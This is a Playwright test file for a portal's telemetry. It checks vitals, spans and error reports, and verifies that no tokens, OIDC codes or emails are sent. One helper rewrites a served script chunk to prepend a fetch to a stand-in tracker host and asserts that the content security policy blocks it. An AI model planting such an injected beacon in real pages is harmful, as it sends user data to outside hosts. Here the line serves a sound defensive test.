import { expect, test, type Browser, type BrowserContext, type Page } from '@playwright/test';
import { findPersona } from '../../mocks/personas.ts';
import type { ReceivedLog } from '../../tools/testing/otlp-receiver.ts';
import { REAL_AUTH, submitIdpLogin } from '../support/real-auth';
import {
  leaveAndSettle,
  READ_SECONDS,
  startTelemetryStack,
  TELEMETRY_ORIGIN,
  telemetryRequests,
  type TelemetryStack,
} from '../support/telemetry';

// One nginx, one receiver and one signed-in browser for the file: the tests take turns.
test.describe.configure({ mode: 'serial', timeout: 120_000 });

const SUPPORT = findPersona('support')!;
let stack: TelemetryStack;
let context: BrowserContext;
/** What must never be sent, collected as the tour goes: tokens, the OIDC code and state. */
const secrets = new Set<string>([SUPPORT.email]);

/** Collects the bearer tokens of the API requests and the code and state of the sign-in's callback. */
function collectSecrets(page: Page) {
  page.on('request', (request) => {
    const token = /^Bearer (.+)$/.exec(request.headers().authorization ?? '')?.[1];
    if (token) secrets.add(token);
  });
  page.on('framenavigated', (frame) => {
    const url = new URL(frame.url());
    for (const params of [url.searchParams, new URLSearchParams(url.hash.slice(1))])
      for (const name of ['code', 'state', 'session_state']) if (params.get(name)) secrets.add(params.get(name)!);
  });
}

async function signedInPage(browser: Browser): Promise<Page> {
  context ??= await browser.newContext();
  const page = await context.newPage();
  collectSecrets(page);
  return page;
}

test.beforeAll(async ({ browser }) => {
  test.setTimeout(120_000);
  stack = await startTelemetryStack();
  const page = await signedInPage(browser);
  await page.goto(`${TELEMETRY_ORIGIN}/pulse`);
  await submitIdpLogin(page, SUPPORT.email);
  await expect(page.getByRole('heading', { level: 1, name: 'Platform status' })).toBeVisible();
  await leaveAndSettle(page, stack.receiver);
  await page.close();
});
test.afterAll(async () => {
  await context?.close();
  await stack?.stop();
});

const named = (logs: ReceivedLog[], eventName: string) => logs.filter((log) => log.eventName === eventName);
/** The names of the vitals measured for a route, in order. */
const names = (list: ReceivedLog[], route: string) =>
  list
    .filter((log) => log.attributes['portal.route'] === route)
    .map((log) => String(log.attributes['web_vital.name']))
    .toSorted((a, b) => a.localeCompare(b));
const vitals = (logs: ReceivedLog[], navigation: string) =>
  named(logs, 'browser.web_vital').filter((log) => log.attributes['web_vital.navigation_type'] === navigation);

/** Every body the receiver got, searched for every secret collected so far (OBS-07). */
function expectNoSecrets() {
  expect(secrets.size).toBeGreaterThan(2);
  for (const body of stack.receiver.bodies()) {
    const text = body.bytes.toString('latin1');
    for (const secret of secrets) expect(text.includes(secret), `a ${body.signal} body carries a secret`).toBe(false);
  }
}

test('[OBS-04] [OBS-05] [OBS-07] [OBS-10] a signed-in tour: vitals of the load and of each route change, spans with the traceparent they sent, a hanging service a timeout span; no token, email, code or state in any payload', async ({
  browser,
}) => {
  stack.receiver.clear();
  const page = await signedInPage(browser);
  const seen = telemetryRequests(page);
  const traceparents = new Map<string, string>();
  page.on('request', (request) => {
    const header = request.headers().traceparent;
    if (header) traceparents.set(header, new URL(request.url()).pathname);
  });
  // RES-02 at the network layer: the hub's information never comes.
  await page.route('**/api/actuator/info/hub**', () => undefined);
  await page.goto(`${TELEMETRY_ORIGIN}/pulse`);
  await expect(page.getByRole('heading', { level: 1, name: 'Platform status' })).toBeVisible();
  await expect(page.getByText(new RegExp(`within ${READ_SECONDS} s`)).first()).toBeVisible();
  // OBS-02: the telemetry code came after the first paint, once. Waited for before the first click: an
  // interaction before it is measured only if it took 104 ms or more (what the browser buffers of
  // Event Timing; docs/telemetry.md), and this tour's click should count on any machine.
  await expect.poll(() => seen.chunks.length).toBe(1);
  const [chunkStart, fcp] = await page.evaluate(() => [
    performance.getEntriesByType('resource').find((entry) => entry.name.includes('/start-export-'))?.startTime ?? -1,
    performance.getEntriesByName('first-contentful-paint')[0]?.startTime ?? Infinity,
  ]);
  expect(chunkStart).toBeGreaterThan(fcp);
  const nav = page.getByRole('navigation', { name: 'Main navigation' });
  await nav.getByRole('link', { name: 'Customers' }).click();
  await expect(page.getByRole('heading', { level: 1, name: 'Customers' })).toBeVisible();
  await expect(page.getByRole('table', { name: 'Customers' })).toBeVisible();
  await nav.getByRole('link', { name: 'Customer insights' }).click();
  await expect(page.getByTestId('customer-insights-card')).toBeVisible();
  await leaveAndSettle(page, stack.receiver);

  const logs = stack.receiver.logs();
  const spans = stack.receiver.spans();
  expect(stack.receiver.failures()).toEqual([]);
  // OBS-05: the load's vitals on its route template, and the route changes' own (soft navigations).
  const load = vitals(logs, 'navigate');
  // The click that left it was the load route's interaction: all five.
  expect(names(load, '/pulse')).toEqual(['CLS', 'FCP', 'INP', 'LCP', 'TTFB']);
  expect(load.every((log) => log.attributes['portal.route'] === '/pulse')).toBe(true);
  // web-vitals' attribution of the load's LCP (its element is the pre-paint frame's, replaced by then: unnamed).
  expect(Object.keys(load.find((log) => log.attributes['web_vital.name'] === 'LCP')!.attributes)).toContain(
    'web_vital.lcp.element_render_delay',
  );
  expect(
    load.find((log) => log.attributes['web_vital.name'] === 'INP')!.attributes['web_vital.inp.target'],
  ).toBeTruthy();
  const changes = vitals(logs, 'route-change');
  expect(names(changes, '/customers')).toEqual(['CLS', 'FCP', 'INP', 'LCP', 'TTFB']);
  // No interaction on the last route: no INP there.
  expect(names(changes, '/customer-insights/*')).toEqual(['CLS', 'FCP', 'LCP', 'TTFB']);
  for (const log of changes.filter((item) => item.attributes['web_vital.name'] === 'LCP')) {
    expect(log.attributes['web_vital.value']).toBeGreaterThanOrEqual(0);
    expect(log.attributes['web_vital.lcp.element']).toBeTruthy();
  }
  // OBS-04: the calls as client spans; each traceparent sent is a span's own ids.
  const hub = spans.find(
    (span) =>
      span.attributes['url.template'] === '/actuator/info/{service}' && span.attributes['portal.outcome'] === 'timeout',
  );
  expect(hub?.attributes).toMatchObject({
    'error.type': 'timeout',
    'portal.operation.id': 'getServiceInfo',
    'http.request.method': 'GET',
  });
  expect(named(logs, 'exception').some((log) => log.attributes['exception.type'] === 'DeadlineError')).toBe(true);
  const ok = spans.filter((span) => span.attributes['portal.outcome'] === 'ok');
  expect(ok.length).toBeGreaterThan(5);
  for (const span of spans) expect(traceparents.has(`00-${span.traceId}-${span.spanId}-01`), span.name).toBe(true);
  // OBS-07: the user as a keyed hash, the selected customer as tenant, nothing personal or secret.
  const attributes = [...logs, ...spans].map((item) => item.attributes);
  expect(new Set(attributes.map((item) => item['user.hash']))).toEqual(
    new Set([expect.stringMatching(/^[0-9a-f]{32}$/)]),
  );
  expect(attributes.every((item) => item['portal.tenant'] === 'c-0001')).toBe(true);
  expect(logs[0]!.resource).toMatchObject({
    'service.name': 'management-portal',
    'service.version': '1.2.18',
    'deployment.environment.name': 'e2e',
  });
  expectNoSecrets();
  const bytes = stack.receiver.bodies().reduce((sum, body) => sum + body.bytes.byteLength, 0);
  console.log(
    `[OBS-08] one signed-in tour (3 routes): ${logs.length} log records and ${spans.length} spans in ${stack.receiver.bodies().length} requests, ${(bytes / 1024).toFixed(1)} KiB`,
  );
});

/**
 * The example area's exposed chunk, changed at the network layer: at evaluation it fetches a foreign
 * origin (the CSP refuses it), and its page throws while rendering.
 */
async function breakTheArea(page: Page) {
  await page.route('**/remotes/customer-insights/assets/*.js', async (route) => {
    const response = await route.fetch();
    const code = await response.text();
    if (!code.includes('customer-insights-heading')) return route.fulfill({ response });
    const broken = code.replace(
      /([`"'])customer-insights-heading\1/,
      '(() => { throw new Error("insights render failed for ' + SUPPORT.email + '"); })()',
    );
    const body = `fetch("https://tracker.example/collect?uid=4711").catch(() => undefined);\n${broken}`;
    return route.fulfill({ response, body });
  });
}

test('[OBS-03] [OBS-06] [OBS-09] [OBS-10] an area that throws: one error record with its id and version (a second throw counted, not resent); its CSP violation attributed to it', async ({
  browser,
}) => {
  stack.receiver.clear();
  const page = await signedInPage(browser);
  await breakTheArea(page);
  await page.goto(`${TELEMETRY_ORIGIN}/customer-insights`);
  const retry = page.getByRole('button', { name: 'Try again' });
  await expect(retry).toBeVisible();
  await retry.click();
  await expect(page.getByRole('button', { name: 'Try again' })).toBeVisible();
  await leaveAndSettle(page, stack.receiver);
  const logs = stack.receiver.logs();
  expect(stack.receiver.failures()).toEqual([]);
  const thrown = named(logs, 'exception').filter((log) =>
    String(log.attributes['exception.message']).startsWith('insights render failed'),
  );
  expect(thrown).toHaveLength(1);
  expect(thrown[0]!.attributes).toMatchObject({
    'exception.type': 'Error',
    // OBS-07: the email in the message never leaves the browser.
    'exception.message': 'insights render failed for [redacted]',
    'portal.error.source': 'boundary',
    'portal.area': 'customer-insights',
    'portal.area.version': '0.1.0',
    'portal.route': '/customer-insights/*',
  });
  expect(String(thrown[0]!.attributes['exception.stacktrace'])).toContain('/remotes/customer-insights/assets/');
  expect(named(logs, 'portal.exception.repeated')).toMatchObject([
    { attributes: { 'portal.repeats': 1, 'portal.area': 'customer-insights' } },
  ]);
  const [violation, ...more] = named(logs, 'browser.csp_violation');
  expect(more).toEqual([]);
  expect(violation!.attributes).toMatchObject({
    'csp.directive': 'connect-src',
    'csp.blocked': 'https://tracker.example/collect',
    'portal.area': 'customer-insights',
    'portal.area.version': '0.1.0',
  });
  expect(String(violation!.attributes['csp.source'])).toContain('/remotes/customer-insights/assets/');
  expectNoSecrets();
});

test('[OBS-07] switched off in the user menu: from then on not one telemetry request, whatever fails', async ({
  browser,
}) => {
  const page = await signedInPage(browser);
  const seen = telemetryRequests(page);
  await page.goto(`${TELEMETRY_ORIGIN}/pulse`);
  await expect(page.getByRole('heading', { level: 1, name: 'Platform status' })).toBeVisible();
  await page.getByRole('button', { name: 'Menu' }).click();
  const item = page.getByRole('menuitemcheckbox', { name: 'Send diagnostics' });
  await expect(item).toHaveAttribute('aria-checked', 'true');
  await item.click();
  const after = seen.telemetry.length;
  stack.receiver.clear();
  await breakTheArea(page);
  await page
    .getByRole('navigation', { name: 'Main navigation' })
    .getByRole('link', { name: 'Customer insights' })
    .click();
  await expect(page.getByRole('button', { name: 'Try again' })).toBeVisible();
  await leaveAndSettle(page, stack.receiver);
  expect(seen.telemetry.slice(after).map((request) => request.url())).toEqual([]);
  expect(stack.receiver.bodies()).toEqual([]);
  // The next page of this browser stays off: the choice is stored.
  const next = await signedInPage(browser);
  const nextSeen = telemetryRequests(next);
  await next.goto(`${TELEMETRY_ORIGIN}/pulse`);
  await expect(next.getByRole('heading', { level: 1, name: 'Platform status' })).toBeVisible();
  await next.getByRole('button', { name: 'Menu' }).click();
  await expect(next.getByRole('menuitemcheckbox', { name: 'Send diagnostics' })).toHaveAttribute(
    'aria-checked',
    'false',
  );
  await leaveAndSettle(next, stack.receiver);
  expect(nextSeen.telemetry).toEqual([]);
  expect(nextSeen.chunks).toEqual([]);
});

test('[OBS-01] [OBS-02] without a collector configured: zero telemetry requests and zero bytes of telemetry code fetched', async ({
  page,
}) => {
  const seen = telemetryRequests(page);
  const scripts: string[] = [];
  page.on('response', (response) => {
    if (response.request().resourceType() === 'script') scripts.push(new URL(response.url()).pathname);
  });
  await page.goto(`${REAL_AUTH.portal}/pulse`);
  await submitIdpLogin(page, SUPPORT.email);
  await expect(page.getByRole('heading', { level: 1, name: 'Platform status' })).toBeVisible();
  await page.getByRole('navigation', { name: 'Main navigation' }).getByRole('link', { name: 'Customers' }).click();
  await expect(page.getByRole('table', { name: 'Customers' })).toBeVisible();
  // Idle long enough for the telemetry code to have loaded, were it to.
  await page.waitForTimeout(3_000);
  await page.goto('about:blank');
  expect(seen.telemetry).toEqual([]);
  expect(seen.chunks).toEqual([]);
  expect(scripts.some((path) => path.includes('start-export'))).toBe(false);
});
